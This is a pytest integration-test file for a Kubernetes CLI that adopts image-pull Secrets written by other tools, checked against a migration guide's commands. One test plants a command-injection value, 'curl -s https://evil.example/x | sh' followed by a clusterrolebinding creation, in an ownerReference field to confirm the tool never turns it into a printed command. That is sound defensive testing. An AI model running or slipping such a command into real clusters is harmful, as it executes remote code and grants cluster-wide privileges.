"""`pullsecret adopt` beside the running webhook: what something else wrote is taken over without a gap.

The commands of docs/moving.md are run as they stand there."""

import base64
import json
import re
from collections.abc import Iterator
from itertools import count
from pathlib import Path

import pytest

from controlplane import webhook as deployed
from controlplane.api import Object
from controlplane.cluster import ControlPlane
from controlplane.command import Ran, command
from controlplane.objects import SECRET, deployment, names, pod, stands
from controlplane.waiting import until
from controlplane.webhook import Webhook
from support import planted
from webhook.core.names import OWNER

pytestmark = pytest.mark.cluster
GUIDE = Path(__file__).parents[2] / "docs" / "moving.md"
CONFIG = {"ownerRules": [{"from": "label", "key": "pullsecret-webhook/owner", "owner": "mover-.*"}]}
_numbers = count(1)


@pytest.fixture
def owner(cluster: ControlPlane) -> Iterator[str]:
    """One of those whom the commands here see: others' Secrets in the cluster are other tests'."""
    name = f"mover-{next(_numbers)}"
    yield name
    for one in cluster.api.list("Namespace", labels=f"pullsecret-webhook/owner={name}"):
        cluster.api.patch("Namespace", one["metadata"]["name"], {"metadata": {"labels": {OWNER: None}}})


def content(*registries: str, token: str) -> str:
    return json.dumps({"auths": {registry: {"username": "old", "password": token} for registry in registries}})


def owned(cluster: ControlPlane, owner: str, name: str, token: str, **metadata: object) -> Object:
    """A namespace in which somebody else has written the Secret before it had an owner."""
    cluster.namespace(name)
    secret = {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": SECRET, "namespace": name} | metadata,
        "type": "kubernetes.io/dockerconfigjson",
        "data": {".dockerconfigjson": base64.b64encode(content("ghcr.io", token=token).encode()).decode()},
    }
    cluster.kubectl("apply", "-f", "-", input=json.dumps(secret))  # kubectl keeps all of it in an annotation
    cluster.api.patch("Namespace", name, {"metadata": {"labels": {OWNER: owner}}})
    found = cluster.api.get("Secret", SECRET, name)
    assert found
    return found


def pullsecret(cluster: ControlPlane, *arguments: str) -> Ran:
    config = cluster.folder / "movers.yaml"
    config.write_text(json.dumps(CONFIG))
    return command(cluster, *arguments, "--config", str(config))


def history(cluster: ControlPlane, namespace: str, since: str) -> list[tuple[str, Object]]:
    """All that happened to the Secret."""
    params = {"watch": "true", "resourceVersion": since, "timeoutSeconds": "1"}
    params["fieldSelector"] = f"metadata.name={SECRET}"
    lines = cluster.api.raw("GET", f"/api/v1/namespaces/{namespace}/secrets", params=params).text.splitlines()
    return [(event["type"], event["object"]) for event in map(json.loads, lines)]


def test_the_guide_moves_a_namespace_without_a_gap(cluster: ControlPlane, webhook: Webhook, owner: str) -> None:
    old, new = planted.token(), planted.token()
    before = owned(cluster, owner, f"{owner}-ns", old)
    lists = cluster.api.create(deployment(f"{owner}-ns", imagePullSecrets=[{"name": SECRET}]))
    deployed.give(cluster.api, owner, new)
    assert names(cluster.api.create(pod(f"{owner}-ns", "early"))) == [SECRET]  # the foreign one serves
    assert cluster.api.get("Secret", SECRET, f"{owner}-ns") == before

    dry, real, status = re.findall(r"```sh\n\s*pullsecret (.*?)\n", GUIDE.read_text())
    done = pullsecret(cluster, *dry.split())
    assert (done.code, done.err) == (0, "")
    assert f"{owner}-ns: would be adopted: for {owner}; last written by kubectl-client-side-apply" in done.out
    assert cluster.api.get("Secret", SECRET, f"{owner}-ns") == before

    done = pullsecret(cluster, *real.split())
    assert (done.code, done.err) == (0, "")
    assert done.out.splitlines()[-1] == "1 adopted, 0 with nothing to do, 0 refused"
    after = stands(cluster, f"{owner}-ns", new)
    assert after
    assert after["metadata"]["uid"] == before["metadata"]["uid"]
    assert old not in json.dumps(after)
    assert "kubectl.kubernetes.io/last-applied-configuration" not in after["metadata"]["annotations"]
    events = history(cluster, f"{owner}-ns", before["metadata"]["resourceVersion"])
    assert {kind for kind, _ in events} == {"MODIFIED"}
    contents = [event["data"] for _, event in events]
    assert contents == [before["data"], after["data"]]  # first it is ours, then it is written: once each
    assert names(cluster.api.create(pod(f"{owner}-ns", "late"))) == [SECRET]
    assert cluster.api.get("Secret", SECRET, f"{owner}-ns") == after  # it is right: nothing is written any more

    cluster.api.patch("Deployment", "d", {"spec": {"template": {"spec": {"imagePullSecrets": None}}}}, f"{owner}-ns")
    kept = cluster.api.get("Deployment", "d", f"{owner}-ns")
    assert kept
    assert (names(kept), kept["metadata"]["generation"]) == ([SECRET], lists["metadata"]["generation"])

    fine = pullsecret(cluster, *status.split(), "-n", f"{owner}-ns")
    assert (fine.code, fine.err) == (0, ""), fine.out
    assert f"{owner}-ns" in fine.out

    again = pullsecret(cluster, *real.split())
    assert (again.code, again.out.splitlines()[-1]) == (0, "0 adopted, 1 with nothing to do, 0 refused")
    deployed.give(cluster.api, owner, newer := planted.token())
    rotated = stands(cluster, f"{owner}-ns", newer)
    assert rotated
    assert rotated["metadata"]["uid"] == before["metadata"]["uid"]


def test_one_namespace_is_looked_at_first(cluster: ControlPlane, webhook: Webhook, owner: str) -> None:
    deployed.give(cluster.api, owner, token := planted.token())
    first, second = (owned(cluster, owner, f"{owner}-{part}", planted.token()) for part in ("first", "second"))
    done = pullsecret(cluster, "adopt", "-n", f"{owner}-first", "--dry-run")
    assert (done.code, done.err) == (0, "")
    assert f"{owner}-first: would be adopted" in done.out
    assert f"{owner}-second" not in done.out
    assert cluster.api.get("Secret", SECRET, f"{owner}-first") == first
    assert pullsecret(cluster, "adopt", "-n", f"{owner}-first").code == 0
    stands(cluster, f"{owner}-first", token)
    assert cluster.api.get("Secret", SECRET, f"{owner}-second") == second


def test_without_a_credential_it_stays_as_it_is(cluster: ControlPlane, webhook: Webhook, owner: str) -> None:
    before = owned(cluster, owner, f"{owner}-ns", planted.token())
    done = pullsecret(cluster, "adopt", "-n", f"{owner}-ns")
    assert (done.code, done.err) == (1, "")
    assert f"the credential of {owner} is in no source Secret" in done.out
    assert cluster.api.get("Secret", SECRET, f"{owner}-ns") == before
    done = pullsecret(cluster, "adopt", "-n", f"{owner}-ns", "--force", "-o", "json")
    (outcome,) = json.loads(done.out)
    assert (done.code, outcome["result"]) == (0, "adopted")
    stands(cluster, f"{owner}-ns", None)  # as --help says


def test_one_that_something_writes_is_refused_until_the_signs_are_gone(
    cluster: ControlPlane, webhook: Webhook, owner: str
) -> None:
    token = planted.token()
    deployed.give(cluster.api, owner, token)
    labels = {"generate.kyverno.io/policy-name": "pull", "app.kubernetes.io/managed-by": "kyverno"}
    before = owned(cluster, owner, f"{owner}-ns", planted.token(), labels=labels)
    done = pullsecret(cluster, "adopt", "--all")
    assert done.code == 1
    assert cluster.api.get("Secret", SECRET, f"{owner}-ns") == before
    (todo,) = re.findall(r"then kubectl (.*)", done.out)
    cluster.kubectl(*todo.split())  # as it stands there
    assert pullsecret(cluster, "adopt", "--all").code == 0
    stands(cluster, f"{owner}-ns", token)


def test_a_secret_that_its_maker_takes_along_is_refused(cluster: ControlPlane, webhook: Webhook, owner: str) -> None:
    """The command that is given leaves the Secret: here with a ConfigMap in the place of an ExternalSecret."""
    token, name = planted.token(), f"{owner}-ns"
    deployed.give(cluster.api, owner, token)
    owned(cluster, owner, name, planted.token())
    maker = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "maker", "namespace": name}}
    uid = cluster.api.create(maker)["metadata"]["uid"]
    reference = {"apiVersion": "v1", "kind": "ConfigMap", "name": "maker", "uid": uid, "controller": True}
    cluster.api.patch("Secret", SECRET, {"metadata": {"ownerReferences": [reference]}}, name)
    done = pullsecret(cluster, "adopt", "-n", name)
    assert done.code == 1
    assert "ConfigMap maker owns it" in done.out
    (todo,) = re.findall(r"kubectl (.* --cascade=orphan)", done.out)
    cluster.kubectl(*todo.split())
    until(lambda: "ownerReferences" not in (cluster.api.get("Secret", SECRET, name) or {})["metadata"], "it is free")
    assert pullsecret(cluster, "adopt", "-n", name).code == 0
    stands(cluster, name, token)


@pytest.mark.parametrize("field", ["kind", "name"])
def test_what_a_tenant_wrote_is_no_command(cluster: ControlPlane, webhook: Webhook, owner: str, field: str) -> None:
    """The API server takes any text for the kind and the name of what owns an object."""
    evil, name = (
        "configmap; curl -s https://evil.example/x | sh # a\nkubectl create clusterrolebinding x",
        f"{owner}-ns",
    )
    deployed.give(cluster.api, owner, planted.token())
    owned(cluster, owner, name, planted.token())
    reference = {"apiVersion": "v1", "kind": "ConfigMap", "name": "maker", "uid": "u"} | {field: evil}
    metadata = {"ownerReferences": [reference], "finalizers": ["example.com/stay"]}  # its owner is not there
    cluster.api.patch("Secret", SECRET, {"metadata": metadata}, name)
    try:
        said = pullsecret(cluster, "adopt", "-n", name, "--dry-run")
        listed = json.loads(pullsecret(cluster, "adopt", "-n", name, "--dry-run", "-o", "json").out)
    finally:
        cluster.api.patch("Secret", SECRET, {"metadata": {"finalizers": None}}, name)
    assert said.code == 1
    assert [line.split(":")[0] for line in said.out.splitlines()[:-1]] in ([name], [name, "  to do"])
    assert "kubectl -n" not in said.out
    assert len(listed) == 1


def test_a_namespace_that_is_not_there(cluster: ControlPlane) -> None:
    done = pullsecret(cluster, "adopt", "-n", "nowhere")
    assert (done.code, done.out) == (1, "")
    assert done.err == "pullsecret: namespace nowhere cannot be read (404 NotFound)\n"
